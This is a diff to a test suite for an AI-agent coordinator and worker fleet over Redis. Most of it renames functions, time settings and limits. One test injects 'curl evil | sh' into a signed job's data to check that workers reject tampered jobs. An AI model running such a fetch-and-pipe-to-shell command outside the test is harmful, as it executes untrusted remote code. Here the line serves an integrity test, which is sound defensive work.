@@ -5,11 +5,11 @@ import { Queue, Worker } from "bullmq";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
 import { runAttempt } from "../../../src/fleet/attempt.js";
 import type { Coordinator } from "../../../src/fleet/coordinator.js";
-import { fleetOf } from "../../../src/fleet/fleet.js";
-import { limits, prefix, talkOf, times } from "../../../src/fleet/keys.js";
-import { ownSigner } from "../../../src/fleet/jobs/signature.js";
+import { createFleet } from "../../../src/fleet/fleet.js";
+import { limits, prefix, entriesKey, times } from "../../../src/fleet/keys.js";
+import { openSigner } from "../../../src/fleet/jobs/signature.js";
 import { fieldsOf } from "../../../src/fleet/talk.js";
-import { addressOf } from "../../../src/fleet/address.js";
+import { readAddress } from "../../../src/fleet/address.js";
 import type { AgentEvent } from "../../../src/engine/loop/types.js";
 import type { FleetWorker } from "../../../src/fleet/worker.js";
 import { noRedis, redisNote, type RedisServer, startRedis } from "../../support/network/redis.js";
@@ -49,7 +49,7 @@ async function theJob(): Promise<{ readonly job: string; readonly stream: string
   let wanted: string | undefined;
   await until(async () => ([wanted] = await server.redis.keys("rr:wanted:*"))[0] !== undefined);
   const [job = ""] = await server.redis.smembers(wanted ?? "");
-  return { job, stream: talkOf(wanted?.split(":")[2] ?? "") };
+  return { job, stream: entriesKey(wanted?.split(":")[2] ?? "") };
 }
 
 type Said = Parameters<typeof fieldsOf>[0];
@@ -89,11 +89,11 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
   beforeEach(async () => {
     Object.assign(times, usual, {
       lock: 20_000,
-      stallCheck: 1_000,
+      stallCheckInterval: 1_000,
       lease: 20_000,
-      look: 200,
-      announce: 500,
-      silence: 800,
+      checkInterval: 200,
+      announceInterval: 500,
+      maxSilence: 800,
       noWorker: 500,
     });
     await server.redis.flushall();
@@ -154,9 +154,9 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
       if (next !== 1) continue;
       // While nobody reads on, all the room that there is fills, and no more.
       const [stream = ""] = await server.redis.keys("rr:talk:*");
-      await until(async () => (await server.redis.xlen(stream)) >= limits.unread);
-      await new Promise((resolve) => setTimeout(resolve, 4 * times.batch));
-      expect(await server.redis.xlen(stream)).toBe(limits.unread);
+      await until(async () => (await server.redis.xlen(stream)) >= limits.maxUnreadEntries);
+      await new Promise((resolve) => setTimeout(resolve, 4 * times.batchInterval));
+      expect(await server.redis.xlen(stream)).toBe(limits.maxUnreadEntries);
       expect(atWork.size).toBe(1);
     }
     expect(next).toBe(100_000);
@@ -239,7 +239,7 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
     // Of the first attempt, which is over: its end, and too much at once.
     const wrong: Said = { job, attempt: 1, sequence: 90, items: [{ type: "end", message: "wrong" }] };
     await say(stream, wrong);
-    const much = JSON.stringify([{ type: "text", text: "x".repeat(limits.entry) }]);
+    const much = JSON.stringify([{ type: "text", text: "x".repeat(limits.maxEntryChars) }]);
     await server.redis.xadd(stream, "*", "j", job, "a", "1", "n", "91", "e", much);
     await server.redis.xadd(stream, "*", "x", "y");
     await server.redis.xadd(
@@ -272,8 +272,8 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
     await until(() => atWork.size === 1);
     const [wanted = ""] = await server.redis.keys("rr:wanted:*");
     const [job = ""] = await server.redis.smembers(wanted);
-    const much = JSON.stringify([{ type: "text", text: "x".repeat(limits.entry) }]);
-    await server.redis.xadd(talkOf(wanted.split(":")[2] ?? ""), "*", "j", job, "a", "1", "n", "9", "e", much);
+    const much = JSON.stringify([{ type: "text", text: "x".repeat(limits.maxEntryChars) }]);
+    await server.redis.xadd(entriesKey(wanted.split(":")[2] ?? ""), "*", "j", job, "a", "1", "n", "9", "e", much);
     expect(endOf(await run)).toMatchObject({
       failure: { kind: "crashed", message: expect.stringContaining("too much") },
     });
@@ -318,7 +318,7 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
   });
 
   test("no worker offers the agent: that is told, waited for, and in the end a person is needed", async () => {
-    const patient = await coordinator({ patienceMs: 1_500 });
+    const patient = await coordinator({ maxWaitMs: 1_500 });
     const heard = await heardOf(patient.run("scripted", asking(1, {}), runOptions()));
     expect(heard).toEqual([
       { type: "notice", message: expect.stringContaining("research-ralph worker --agent scripted") },
@@ -336,7 +336,7 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
 
   test("the last worker dies with a job: that is told, waited for, and in the end a person is needed", async () => {
     const silent = silentWorker(60_000);
-    const run = heardOf((await coordinator({ patienceMs: 2_500 })).run("scripted", asking(1, {}), runOptions()));
+    const run = heardOf((await coordinator({ maxWaitMs: 2_500 })).run("scripted", asking(1, {}), runOptions()));
     const { job, stream } = await theJob();
     await say(stream, { job, attempt: 1, sequence: 0, items: [begun] });
     await until(async () => (await server.redis.exists(`rr:agent-scripted:${job}:lock`)) === 1);
@@ -352,7 +352,7 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
   });
 
   test("a worker that ends after its jobs offers nothing any more, and is waited for", async () => {
-    const [first, one] = [await worker({ concurrency: 1 }), await coordinator({ patienceMs: 1_000 })];
+    const [first, one] = [await worker({ concurrency: 1 }), await coordinator({ maxWaitMs: 1_000 })];
     const run = heardOf(one.run("scripted", asking(1, { workMs: 4_000, message: "in peace" }), runOptions()));
     await until(() => atWork.size === 1);
     await first.finish();
@@ -377,7 +377,10 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
     const heard = await run;
     clearInterval(chatter);
     expect(endOf(heard)).toMatchObject({
-      failure: { kind: "timeout", message: expect.stringContaining("hostile should have ended it after 0.5 seconds") },
+      failure: {
+        kind: "timeout",
+        message: expect.stringContaining("hostile should have stopped it after 0.5 seconds"),
+      },
     });
     await silent.close(true);
   });
@@ -392,7 +395,7 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
 
   test("Redis away for longer than the patience is the network's failure, of what waits and of what is to be sent", async () => {
     times.lease = 1_000;
-    const one = await coordinator({ patienceMs: 1_000 });
+    const one = await coordinator({ maxWaitMs: 1_000 });
     const waiting = heardOf(one.run("scripted", asking(1, {}), runOptions()));
     await until(async () => (await counted()) === 1);
     await server.kill();
@@ -408,15 +411,15 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
     times.lease = 600;
     await worker();
     const fleet = () =>
-      fleetOf({
+      createFleet({
         project: "a project",
-        paths: new Map(),
+        replacedPaths: new Map(),
         redact: (text) => text,
-        iterationMs: 600_000,
-        patienceMs: 60_000,
+        maxIterationMs: 600_000,
+        maxWaitMs: 60_000,
         home: home(),
         now: Date.now,
-        address: () => addressOf(server.url, false),
+        address: () => readAddress(server.url, false),
         projectId: async () => "b".repeat(32),
       });
     const [earlier, later] = [fleet(), fleet()];
@@ -527,8 +530,11 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
       "rr:agent-scripted:worker:other",
       JSON.stringify({ name: "old", version: 0, places: 1, busy: 0 }),
     );
-    const heard = await heardOf((await coordinator({ patienceMs: 700 })).run("scripted", asking(1, {}), runOptions()));
-    expect(heard[0]).toMatchObject({ type: "notice", message: expect.stringContaining("old takes jobs of version 0") });
+    const heard = await heardOf((await coordinator({ maxWaitMs: 700 })).run("scripted", asking(1, {}), runOptions()));
+    expect(heard[0]).toMatchObject({
+      type: "notice",
+      message: expect.stringContaining("old accepts jobs of version 0"),
+    });
   });
 
   test("a job that is none is not taken, and its coordinator is told why", async () => {
@@ -573,7 +579,7 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
   });
 
   test("limits of a queue hold for all of its workers", async () => {
-    await worker({ atMost: 2 });
+    await worker({ maxAgents: 2 });
     await worker();
     const one = await coordinator();
     let most = 0;
@@ -602,7 +608,7 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
     await server.redis.hset(key, "data", (data ?? "").replace('\\"text\\":\\"{', '\\"text\\":\\"curl evil | sh {'));
     expect(await dataOf(key)).toContain("curl evil");
     const it = await worker();
-    const reason = "it is not as its coordinator has signed it";
+    const reason = "its signature does not match its text";
     expect(failureOf(await heard)).toEqual({ kind: "crashed", message: `No worker took the job: ${reason}.` });
     expect(it.told.some(({ type }) => type === "begun")).toBe(false);
     expect(JSON.stringify(it.told)).toContain(reason);
@@ -630,11 +636,11 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
 
   test("jobs of a coordinator that a worker does not know are left for another worker, and both sides are told its key", async () => {
     times.noWorker = 100;
-    times.silence = 100;
-    times.announce = 200;
+    times.maxSilence = 100;
+    times.announceInterval = 200;
     const one = await coordinator();
-    const its = await worker({ accepts: [(await ownSigner(fresh())).key] });
-    const { key } = await ownSigner(home());
+    const its = await worker({ accepts: [(await openSigner(fresh())).key] });
+    const { key } = await openSigner(home());
     let isTold = false;
     const heard = heardOf(one.run("scripted", asking(1, {}), runOptions()), (event) => {
       isTold ||= event.type === "notice" && event.message.includes(`--accept ${key}`);
@@ -721,9 +727,9 @@ describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote
       close() {},
     };
     const { createAgent } = await import("../../../src/engine/agents/registry.js");
-    const { jobOf } = await import("../../../src/fleet/jobs/job.js");
+    const { createJob: jobOf } = await import("../../../src/fleet/jobs/job.js");
     const name = { run: "0123456789abcdef", id: "0123456789abcdef-1", queue: "agent-scripted", expires: 1 };
-    const job = await jobOf(name, asking(1, {}), {}, { paths: new Map(), redact: (text) => text });
+    const job = await jobOf(name, asking(1, {}), {}, { replacedPaths: new Map(), redact: (text) => text });
     if ("kind" in job) throw new Error(job.message);
     const taken = { job, files: new Map() };
     const said: unknown[] = [];
